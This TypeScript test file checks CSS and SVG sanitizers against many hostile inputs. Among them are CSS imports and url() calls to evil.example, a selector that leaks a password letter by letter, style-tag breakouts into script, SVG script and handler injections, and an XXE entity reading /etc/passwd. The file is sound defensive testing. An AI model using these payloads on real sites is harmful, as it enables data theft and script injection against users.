import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { classicRules } from './classic.ts'
import { cleanSvg } from './svg.ts'

describe('a classic style sheet', () => {
  // biome-ignore format: a table
  const kept: readonly (readonly [title: string, css: string, clean: string])[] = [
    ['what AWS shows',            '.logo-customizable{max-width:60%;max-height:30%}',                       '.logo{max-width:60%;max-height:30%}'],
    ['names of our own',          '.submitButton-customizable:hover { color: #fff; background-color: #286090 }', '.primary:hover{color:#fff;background-color:#286090}'],
    ['several of one rule',       '.label-customizable, .redirect-customizable{font-weight:bold;text-align:center}', 'label{font-weight:bold}.more{text-align:center}'],
    ['margins of four values',    '.submitButton-customizable{margin:20px 0px 10px 0px}',                    '.primary{margin:20px 0px 10px 0px}'],
    ['comments',                  '/* brand */ .label-customizable{/* x */font-weight:400}',                 'label{font-weight:400}'],
    ['a colour as a function',    '.banner-customizable{background-color:rgba(0, 0, 0, .5)}',                '.brand{background-color:rgba(0,0,0,.5)}'],
    ['importance',                '.banner-customizable{padding:1px!important}',                             '.brand{padding:1px}'],
    ['another class',             '.modal{padding:0}.banner-customizable{padding:1px}',                      '.brand{padding:1px}'],
    ['an element',                'body{background:#000}*{color:red}',                                       ''],
    ['a class within another',    '.card .banner-customizable{padding:1px}.banner-customizable.x{padding:1px}', ''],
    ['what a class does not have', '.label-customizable{position:fixed;inset:0;z-index:9;font-weight:400}',  'label{font-weight:400}'],
    ['an outline taken away',     '.inputField-customizable:focus{outline:0;border-color:#66afe9}',          'input:not([type="hidden"]):focus{border-color:#66afe9}'],
    ['a value that is none',      '.banner-customizable{background-color:#ggg;padding:1px}',                 '.brand{padding:1px}'],
    ['a name in escapes',         '.banner-customizable{p\\61 dding:1px;background-color:r\\65 d}',          ''],
    ['a name of every object',    '.constructor{color:red}constructor{color:red}__proto__{color:red}',       ''],
  ]
  test.each(kept)('keeps what is allowed of %s', (_, css, clean) => {
    expect(classicRules(css, true)).toBe(clean)
  })

  // biome-ignore format: a table
  const refused: readonly (readonly [title: string, css: string])[] = [
    ['an import',                '@import url(//evil.example/x.css);'],
    ['an import in escapes',     '@\\69mport "//evil.example/x.css";'],
    ['a font',                   '@font-face{font-family:x;src:url(//evil.example/x)}'],
    ['a namespace',              '@namespace url(//evil.example/x);'],
    ['a rule for media',         '@media all{.banner-customizable{padding:1px}}'],
    ['a layer',                  '@layer x{.banner-customizable{padding:1px}}'],
    ['an address',               '.banner-customizable{background:url(//evil.example/x)}'],
    ['an address in quotes',     ".banner-customizable{background:url('data:image/png;base64,AA')}"],
    ['an address in capitals',   '.banner-customizable{background:URL(x)}'],
    ['an address in escapes',    '.banner-customizable{background:u\\72l(//evil.example/x)}'],
    ['an address without end',   '.banner-customizable{background:url(//evil.example/x'],
    ['an address in a set',      '.banner-customizable{background:image-set("//evil.example/x" 1x)}'],
    ['an address of another class', '.unknown{background:url(//evil.example/x)}'],
    ['an address in a name',     '.banner-customizable{--x:url(//evil.example/x)}'],
    ['an expression',            '.banner-customizable{width:expression(alert(1))}'],
    ['a behaviour',              '.banner-customizable{behavior:url(x.htc)}'],
    ['a binding',                '.banner-customizable{-moz-binding:url(x.xml#y)}'],
    ['an attribute as a value',  '.banner-customizable{background-color:attr(value)}'],
    ['a name as a value',        '.banner-customizable{background-color:var(--x)}'],
    ['a password, letter by letter', 'input[value^="a"]{background:url(//evil.example/a)}'],
    ['the end of an element',    '.banner-customizable{padding:1px}</style><script>alert(1)</script>'],
    ['an HTML comment',          '<!-- .banner-customizable{padding:1px} -->'],
    ['a script',                 '.banner-customizable{background:javascript:alert(1)}'],
    ['a brace too many',         '.banner-customizable{padding:1px}}body{display:none}'],
    ['a brace too few',          '.banner-customizable{padding'],
    ['a rule in a rule',         '.banner-customizable{.card{position:fixed}}'],
    ['HTML',                     '<p>hello</p>'],
  ]
  test.each(refused)('is refused with %s', (_, css) => {
    expect(() => classicRules(css, true)).toThrow('CSS must be well-formed')
  })

  test('has nothing but its own classes, whatever is handed in', () => {
    const pieces = fc.constantFrom(
      '.banner-customizable', '.logo-customizable', '{', '}', '(', ')', ';', ':', ',', '"', "'", '\\', '/*', '*/', '@media', '@import',
      'url(', 'color', 'padding', 'red', '1px', '!important', '<', '>', '\n', ' ', 'body', '*', '--x', '#', '\\75rl(', '<!--', '\0', 'é',
    ) // biome-ignore format: a list
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        expect(classicRules(parts.join(''))).toMatch(/^(?:\.(?:brand|logo)\{(?:[a-z-]+:[\w #.%(),-]+;?)+\})*$/)
      }),
      { numRuns: 2000 },
    )
  })
})

describe('a drawing', () => {
  const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
  const inner = (svg: string) => /^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg">(.*)<\/svg>$/s.exec(svg)?.[1]

  // biome-ignore format: a table
  const cases: readonly (readonly [title: string, content: string, clean: string])[] = [
    ['shapes',                     '<g fill="#fff"><path d="M0 0h1z"/><rect width="50%" x="-1.5"/></g>',     '<g fill="#fff"><path d="M0 0h1z"></path><rect width="50%" x="-1.5"></rect></g>'],
    ['a gradient and its use',     '<defs><linearGradient id="a"/></defs><rect fill="url(#a)"/>',            '<defs><linearGradient id="a"></linearGradient></defs><rect fill="url(#a)"></rect>'],
    ['text',                       '<text font-family="Georgia, \'My Serif\'">a &amp; &lt;b&gt;</text>',     '<text font-family="Georgia, &#39;My Serif&#39;">a &#38; &#60;b&#62;</text>'],
    ['a style of an element',      '<path style="fill:#f00;stroke:url(#a);position:fixed"/>',                '<path style="fill:#f00;stroke:url(#a)"></path>'],
    ['a style sheet of classes',   '<style>.a{fill:red}</style><path class="a"/>',                           '<style>.a{fill:red}</style><path class="a"></path>'],
    ['a style sheet in CDATA',     '<style><![CDATA[.a{fill:red}]]></style>',                                '<style>.a{fill:red}</style>'],
    ['a link inside',              '<use xlink:href="#a"/><use href="#b"/>',                                 '<use href="#a"></use><use href="#b"></use>'],
    ['comments and instructions',  '<!-- x --><?php y ?><path/>',                                            '<path></path>'],
    ['what editors add',           '<metadata><x/></metadata><path data-name="x" xmlns:i="urn:i" i:y="z"/>', '<path></path>'],
    ['a script',                   '<script>alert(1)</script><script href="//evil.example/x.js"/>',          ''],
    ['a script in CDATA',          '<script><![CDATA[alert(1)]]></script>',                                  ''],
    ['a script in capitals',       '<SCRIPT>alert(1)</SCRIPT>',                                              ''],
    ['a script with a prefix',     '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',     ''],
    ['a script of HTML',           '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',   ''],
    ['a shape of HTML',            '<h:path xmlns:h="http://www.w3.org/1999/xhtml"/>',                       ''],
    ['a handler',                  '<path onload="alert(1)" ONCLICK="x" onmouseover="x"/>',                  '<path></path>'],
    ['a link to a script',         '<a href="javascript:alert(1)"><path/></a><a xlink:href="javascript:alert(1)">x</a>', ''],
    ['a use of elsewhere',         '<use href="//evil.example/x.svg#a"/><use xlink:href="data:image/svg+xml,x"/>', '<use></use><use></use>'],
    ['an embedded document',       '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="//evil.example"/></body></foreignObject>', ''],
    ['an image',                   '<image href="//evil.example/x.png"/><feImage href="//evil.example/x"/>', ''],
    ['an animation',               '<a id="x"><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onload" to="x"/></a>', ''],
    ['an animation of a shape',    '<path><animate attributeName="d" to="x"/></path>',                       '<path></path>'],
    ['an address in a style',      '<path style="fill:url(//evil.example/x);mask:url(x.svg#a)"/>',           '<path></path>'],
    ['an address in an attribute', '<path fill="url(//evil.example/x)" mask="url(x#a)" filter="u\\72l(x)"/>', '<path></path>'],
    ['an import in a style sheet', '<style>@import "//evil.example/x.css";.a{fill:url(//evil.example/x)}</style>', '<style></style>'],
    ['markup in a style sheet',    '<style>.a{fill:red}&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>', '<style>.a{fill:red}</style>'],
    ['a base of elsewhere',        '<g xml:base="//evil.example/"><path/></g>',                              '<g><path></path></g>'],
    ['text that looks like markup', '<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>',                    '<text>&#60;script&#62;alert(1)&#60;/script&#62;</text>'],
    ['an attribute that breaks out', '<path class="&quot;&gt;&lt;script&gt;"/>',                             '<path></path>'],
  ]
  test.each(cases)('is served with %s as it should be', (_, content, clean) => {
    expect(inner(cleanSvg(`${open}${content}</svg>`))).toBe(clean)
  })

  test('keeps its own size, and loses its doctype', () => {
    const doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    const text = `<?xml version="1.0"?>${doctype}<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" onload="x" width="1"/>`
    expect(cleanSvg(text)).toBe('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" width="1"></svg>')
    expect(cleanSvg(cleanSvg(text))).toBe(cleanSvg(text))
  })

  // biome-ignore format: a table
  const refused: readonly (readonly [title: string, text: string, message: RegExp])[] = [
    ['nothing',              '',                                                              /not well-formed/],
    ['HTML',                 '<html><body><svg/></body></html>',                              /not an SVG/],
    ['no namespace',         '<svg><path/></svg>',                                            /not an SVG/],
    ['another namespace',    '<svg xmlns="http://www.w3.org/1999/xhtml"/>',                   /not an SVG/],
    ['an element left open', `${open}<g></svg>`,                                              /not well-formed/],
    ['an entity',            `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${open}&x;</svg>`, /entities/],
    ['a billion laughs',     `<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>${open}&b;</svg>`, /entities/],
    ['an unknown entity',    `${open}&x;</svg>`,                                              /not well-formed/],
    ['too deep a nest',      `${open}${'<g>'.repeat(100)}${'</g>'.repeat(100)}</svg>`,        /too deeply/],
    ['too many elements',    `${open}${'<g/>'.repeat(20_000)}</svg>`,                         /too many/],
  ]
  test.each(refused)('is refused: %s', (_, text, message) => {
    expect(() => cleanSvg(text)).toThrow(message)
  })
})
